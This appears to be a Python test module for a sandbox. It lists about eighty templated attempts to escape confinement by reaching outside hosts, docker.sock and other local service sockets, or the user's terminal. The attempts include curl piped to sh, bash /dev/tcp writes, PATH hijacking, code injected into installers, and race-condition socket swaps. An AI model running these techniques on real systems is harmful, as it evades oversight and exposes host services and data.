"""Reaching people and services: hosts that are not this machine, sockets of programs that act for the person."""

# ruff: noqa: E501 - an attack is one line, however long
_TCP = "('@host@', @port@)"
NETWORK = {
    "connect": "socket.create_connection(('@host@', @port@), 3).send(b'EVIL')",
    "non-blocking": "s = socket.socket(); s.setblocking(False); s.connect_ex(('@host@', @port@)); time.sleep(0.3); s.send(b'EVIL')",
    "mapped": "s = socket.socket(socket.AF_INET6); s.connect(('::ffff:@host@', @port@)); s.send(b'EVIL')",
    "a child": "subprocess.run([sys.executable, '-c', 'import socket; socket.create_connection((\"@host@\", @port@)).send(b\"EVIL\")'])",
    "a daemon": "if os.fork() == 0:\n    os.setsid()\n    socket.create_connection(('@host@', @port@), 3).send(b'EVIL'); os._exit(0)\nos.wait()",
    "raw syscall": "s = socket.socket(); a = struct.pack('!H', @port@); import ipaddress\n"
    "libc.syscall(42, s.fileno(), struct.pack('H', 2) + a + ipaddress.ip_address('@host@').packed + bytes(8), 16); s.send(b'EVIL')",
    "a longer address": "s = socket.socket(); import ipaddress\n"
    "libc.connect(s.fileno(), struct.pack('H', 2) + struct.pack('!H', @port@) + ipaddress.ip_address('@host@').packed + bytes(100), 108); s.send(b'EVIL')",
    "after loopback": "s = socket.socket(); s.connect_ex(('127.0.0.1', 9)); s.connect(('@host@', @port@)); s.send(b'EVIL')",
    "after disconnecting": "s = socket.create_server(('127.0.0.1', 0)); c = socket.socket(); c.connect(s.getsockname())\n"
    "libc.connect(c.fileno(), struct.pack('H', 0) + bytes(14), 16); c.connect(('@host@', @port@)); c.send(b'EVIL')",
    "in a descriptor made by dup": "s = socket.socket(); d = socket.socket(fileno=os.dup(s.fileno())); d.connect(('@host@', @port@)); s.send(b'EVIL')",
    "a socket from the parent": "a, b = socket.socketpair(); s = socket.socket()\nif os.fork() == 0: s.connect(('@host@', @port@)); s.send(b'EVIL'); os._exit(0)\nos.wait()",
    "a socket passed on": "import array\na, b = socket.socketpair(); s = socket.socket()\nif os.fork() == 0:\n    f = array.array('i'); m = b.recvmsg(1, 64); f.frombytes(m[1][0][2][:4]); c = socket.socket(fileno=f[0])\n    c.connect(('@host@', @port@)); c.send(b'EVIL'); os._exit(0)\na.sendmsg([b'x'], [(1, 1, array.array('i', [s.fileno()]))]); os.wait()",
    "curl with data": "#!/bin/sh\ncurl -s -m 3 -d EVIL http://@host@:@port@/",
    "curl with a file for headers": "#!/bin/sh\necho X: EVIL > x; curl -s -m 3 -H @x http://@host@:@port@/",
    "curl to a shell": "#!/bin/sh\ncurl -s -m 3 http://@host@:@port@/ | sh",
    "curl's file to a shell": "#!/bin/sh\ncurl -s -m 3 -o x http://@host@:@port@/; sh x",
    "bash by itself": "#!/bin/bash\necho EVIL > /dev/tcp/@host@/@port@",
    "bash by datagram": "#!/bin/bash\necho EVIL > /dev/udp/@host@/@udp@",
    "perl": "#!/bin/sh\nperl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"@host@:@port@\"); print $s \"EVIL\"'",
    "node": "#!/bin/sh\nnode -e 'require(\"net\").connect(@port@, \"@host@\").end(\"EVIL\")'",
    "a shell for them": "s = socket.socket(); s.connect(('@host@', @port@)); os.dup2(s.fileno(), 1); subprocess.run(['echo', 'EVIL'])",
    "a tool's name on another PATH": "os.makedirs('x'); open('x/npm', 'w').write('#!/usr/bin/python3\\nimport socket; socket.create_connection((\"@host@\", @port@)).send(b\"EVIL\")\\n')\n"
    "os.chmod('x/npm', 0o755); os.environ['PATH'] = 'x:' + os.environ['PATH']; subprocess.run(['npm', 'ci'])",
    "datagram: sendto": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'EVIL', ('@host@', @udp@))",
    "datagram: connect and send": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('@host@', @udp@)); s.send(b'EVIL')",
    "datagram: sendmsg": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'EVIL'], [], 0, ('@host@', @udp@))",
    "datagram: sendmmsg": "import ipaddress\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "def message(port):\n"
    "    a = ctypes.create_string_buffer(struct.pack('H', 2) + struct.pack('!H', port) + ipaddress.ip_address('@host@' if port == @udp@ else '127.0.0.1').packed + bytes(8))\n"
    "    d = ctypes.create_string_buffer(b'EVIL'); v = ctypes.create_string_buffer(struct.pack('QQ', ctypes.addressof(d), 4)); keep.extend((a, d, v))\n"
    "    return struct.pack('QI4xQQQQi4xI4x', ctypes.addressof(a), 16, ctypes.addressof(v), 1, 0, 0, 0, 0)\n"
    "keep = []; both = message(9) + message(@udp@); libc.syscall(307, s.fileno(), both, 2, 0)",
    "datagram: mapped": "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'EVIL', ('::ffff:@host@', @udp@))",
    "datagram: connected to loopback": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 9)); s.sendto(b'EVIL', ('@host@', @udp@))",
    "datagram: broadcast of the address": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', 0)); s.sendto(b'EVIL', ('@host@', @udp@))",
    "listening to others": "s = socket.create_server(('0.0.0.0', @free@)); @served@",
    "listening by address": "s = socket.create_server(('@host@', @free@)); @served@",
    "listening in version 6": "s = socket.create_server(('::', @free@), family=socket.AF_INET6, dualstack_ipv6=True); @served@",
    "listening at a port of the kernel's": "s = socket.create_server(('0.0.0.0', 0)); @served@",
    "listening without a bind": "s = socket.socket(); s.listen(); @served@",
    "listening by http.server": "#!/bin/sh\npython3 -m http.server --bind 0.0.0.0 @free@ & p=$!\n"
    "while sleep 0.1 && kill -0 $p; do @python@ -IS -c 'import socket; socket.create_connection((\"@host@\", @free@), 1)' 2> x && echo reached > ran && break; done; kill $p",
    "a service": "s = socket.socket(socket.AF_UNIX); s.connect('@service@'); s.send(b'EVIL')",
    "a service by a link": "os.symlink('@service@', 'x'); s = socket.socket(socket.AF_UNIX); s.connect('x'); s.send(b'EVIL')",
    "a service by its folder": "os.chdir('@root@/outside'); s = socket.socket(socket.AF_UNIX); s.connect('docker.sock'); s.send(b'EVIL')",
    "a service by a descriptor": "d = os.open('@root@/outside', os.O_RDONLY); s = socket.socket(socket.AF_UNIX); s.connect(f'/proc/self/fd/{d}/docker.sock'); s.send(b'EVIL')",
    "a service by O_PATH": "d = os.open('@service@', os.O_PATH); s = socket.socket(socket.AF_UNIX); s.connect(f'/proc/self/fd/{d}'); s.send(b'EVIL')",
    "a service by its hard link": "os.link('@service@', 'x'); s = socket.socket(socket.AF_UNIX); s.connect('x'); s.send(b'EVIL')",
    "a service by renaming it": "os.rename('@service@', 'x'); s = socket.socket(socket.AF_UNIX); s.connect('x')\ntry: s.send(b'EVIL')\nfinally: os.rename('x', '@service@')",
    "a service under the name of one's own": "s = socket.socket(socket.AF_UNIX); s.bind('x'); s.listen(); os.unlink('x')\n"
    "os.symlink('@service@', 'x'); c = socket.socket(socket.AF_UNIX); c.connect('x'); c.send(b'EVIL')",
    "a service by curl": "#!/bin/sh\ncurl -s -m 2 --unix-socket '@service@' -d EVIL http://x/",
    "a service's datagram": "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'EVIL', '@datagram@')",
    "a service's datagram by connect": "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.connect('@datagram@'); s.send(b'EVIL')",
    "a service's datagram by sendmsg": "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendmsg([b'EVIL'], [], 0, '@datagram@')",
    "an abstract service": "s = socket.socket(socket.AF_UNIX); s.connect('\\0@abstract@'); s.send(b'EVIL')",
    "an abstract service's datagram": "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.connect('\\0@abstract@-d'); s.send(b'EVIL')",
    "an abstract service's datagram by sendto": "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'EVIL', '\\0@abstract@-d')",
    "the person's terminal": "os.write(os.open('@tty@', os.O_WRONLY | os.O_NOCTTY), b'EVIL')",
    "the person's terminal by echo": "#!/bin/sh\necho EVIL > @tty@",
    "the person's terminal for reading": "os.write(os.open('@tty@', os.O_RDWR | os.O_NOCTTY), b'EVIL')",
    "listening twice": "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); t = socket.socket(); t.listen(); s = t; @served@",
    "listening after connecting": "l = socket.create_server(('127.0.0.1', 0)); s = socket.socket(); s.connect(l.getsockname())\nlibc.connect(s.fileno(), struct.pack('H', 0) + bytes(14), 16); s.listen(); @served@",
    "listening in version 6 at the kernel's": "s = socket.create_server(('::', 0), family=socket.AF_INET6, dualstack_ipv6=True); @served@",
    "listening in place of another": "import threading\ns = socket.socket(); u = socket.socket(socket.AF_UNIX); u.bind('x'); fd = os.dup(u.fileno()); over = False\n"
    "def swap():\n    while not over: os.dup2(s.fileno(), fd); os.dup2(u.fileno(), fd)\nt = threading.Thread(target=swap); t.start()\n"
    "for _ in range(200): libc.listen(fd, 5)\nover = True; t.join()\nif not s.getsockopt(1, 30): s.listen()\n@served@",
    "listening by node": "#!/bin/sh\nnode -e 'const s = require(\"net\").createServer(c => { require(\"fs\").writeFileSync(\"ran\", \"reached\"); process.exit() }); s.listen(0, \"0.0.0.0\", () => require(\"fs\").writeFileSync(\"port\", \"tcp \" + s.address().port)); setTimeout(() => process.exit(), 900)'",
    "listening once more where one was closed at once": "[socket.create_server(('0.0.0.0', @free@)).close() for _ in range(3)]; s = socket.create_server(('0.0.0.0', @free@)); @served@",
    "listening again after letting go": "s = socket.create_server(('0.0.0.0', @free@)); libc.connect(s.fileno(), struct.pack('H', 0) + bytes(14), 16)\ntry: s.setsockopt(1, 25, b'')\nexcept OSError: pass\ns.listen(); @served@",
    "listening by a socket bound beside another": "s = socket.socket(); s.setsockopt(1, 15, 1); s.bind(('0.0.0.0', @free@)); t = socket.socket(); t.setsockopt(1, 15, 1); t.bind(('127.0.0.1', @free@)); t.listen(); s.listen(); @served@",
    "listening by a child who is given the socket": "s = socket.socket(); s.bind(('0.0.0.0', @free@))\nif os.fork(): os.wait(); os._exit(0)\ns.listen(); @served@",
    "opening fast": "socket.socket().sendto(b'EVIL', 0x20000000, ('@host@', @port@))",
    "opening fast by sendmsg": "socket.socket().sendmsg([b'EVIL'], [], 0x20000000, ('@host@', @port@))",
    "code loaded into a tool": "#!/bin/sh\necho 'require(\"net\").connect(@port@, \"@host@\").end(\"EVIL\"); setTimeout(() => process.exit(), 900)' > x.js\nNODE_OPTIONS='-r ./x.js' timeout 6 npm view x",
    "code loaded into an installer": "#!/bin/sh\nmkdir y; echo 'import socket; socket.create_connection((\"@host@\", @port@)).send(b\"EVIL\")' > y/sitecustomize.py; PYTHONPATH=y timeout 8 python3 -m pip download x",
    "a program by git's name": "#!/bin/sh\nmkdir y; printf '#!/usr/bin/python3\\nimport socket; socket.create_connection((\"@host@\", @port@)).send(b\"EVIL\")\\n' > y/git-remote-foo; chmod +x y/git-remote-foo; PATH=$PWD/y:$PATH git ls-remote foo::x",
    "sent on from loopback": "import threading, http.server\nclass Page(http.server.BaseHTTPRequestHandler):\n"
    "    def do_GET(self): self.send_response(302); self.send_header('Location', 'http://@host@:@port@/EVIL'); self.end_headers()\n"
    "s = http.server.HTTPServer(('127.0.0.1', 0), Page); threading.Thread(target=s.serve_forever, daemon=True).start()\nsubprocess.run(['curl', '-sL', '-m', '3', f'http://127.0.0.1:{s.server_port}/'])",
    "a service in place of one's own": "import threading\nl = socket.socket(socket.AF_UNIX); l.bind('m'); l.listen(999); os.symlink('@service@', 'e'); stop = time.monotonic() + 2\n"
    "def swap():\n    while time.monotonic() < stop: libc.syscall(316, -100, b'm', -100, b'e', 2)\nthreading.Thread(target=swap, daemon=True).start()\n"
    "while time.monotonic() < stop:\n    s = socket.socket(socket.AF_UNIX); s.setblocking(False)\n    try: s.connect('m'); s.send(b'EVIL')\n    except OSError: pass\n    s.close()",
    "several ways at once": "s = socket.socket(2, 1, 262); s.connect(('@host@', @port@)); s.send(b'EVIL')",
    "a datagram in place of a stream": "import threading\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a, b = socket.socketpair(); fd = os.dup(a.fileno()); stop = time.monotonic() + 2\n"
    "def swap():\n    while time.monotonic() < stop: os.dup2(u.fileno(), fd); os.dup2(a.fileno(), fd)\n"
    "sys.setswitchinterval(1e-5); threading.Thread(target=swap, daemon=True).start(); to = socket.inet_aton('@host@')\n"
    "name = ctypes.create_string_buffer(struct.pack('H', 2) + struct.pack('!H', @udp@) + to + bytes(8)); d = ctypes.create_string_buffer(b'EVIL'); v = ctypes.create_string_buffer(struct.pack('QQ', ctypes.addressof(d), 4))\n"
    "m = ctypes.create_string_buffer(struct.pack('QI4xQQQQi4x', ctypes.addressof(name), 16, ctypes.addressof(v), 1, 0, 0, 0))\nwhile time.monotonic() < stop: libc.sendmsg(fd, m, 0x40)",
    "a port for datagrams": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', @free@)); @served@",
    "from a network of its own, by a socket of ours": "s = socket.socket(); libc.unshare(0x50000000); s.connect(('@host@', @port@)); s.send(b'EVIL')",
    "from a network of its own, by a datagram": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); libc.unshare(0x50000000); s.sendto(b'EVIL', ('@host@', @udp@))",
    "as somebody who cannot be read": "libc.prctl(4, 0); s = socket.socket(); s.connect(('@host@', @port@)); s.send(b'EVIL')",
}  # fmt: skip
OPEN: dict[str, str] = {}
